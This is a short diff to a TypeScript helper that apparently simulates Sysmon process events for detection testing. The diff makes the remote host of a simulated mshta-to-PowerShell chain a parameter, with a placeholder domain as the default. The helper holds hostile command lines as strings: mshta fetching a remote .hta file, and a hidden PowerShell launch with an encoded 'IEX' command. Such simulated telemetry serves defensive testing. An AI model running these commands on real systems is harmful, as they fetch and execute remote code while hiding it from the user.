@@ -91,14 +91,17 @@ function pidOf(n: number): number {
   return 1000 + n * 4;
 }
 
-/** mshta with remote content that starts PowerShell, which calls out: a complete AN1397. Answers with PowerShell. */
-export function tellMshtaChain(host: SysmonTeller, parent: ToldProcess): ToldProcess {
+/**
+ * mshta with remote content, from `site`, that starts PowerShell, which calls out: a complete AN1397. Answers with
+ * PowerShell.
+ */
+export function tellMshtaChain(
+  host: SysmonTeller,
+  parent: ToldProcess,
+  site = 'cdn.invoice-view.example',
+): ToldProcess {
   const system32 = 'C:\\Windows\\System32';
-  const mshta = host.starts(
-    `${system32}\\mshta.exe`,
-    'mshta.exe https://cdn.invoice-view.example/a.hta',
-    parent,
-  );
+  const mshta = host.starts(`${system32}\\mshta.exe`, `mshta.exe https://${site}/a.hta`, parent);
   const powershell = host.starts(
     `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
     'powershell.exe -w hidden -enc SQBFAFgA',
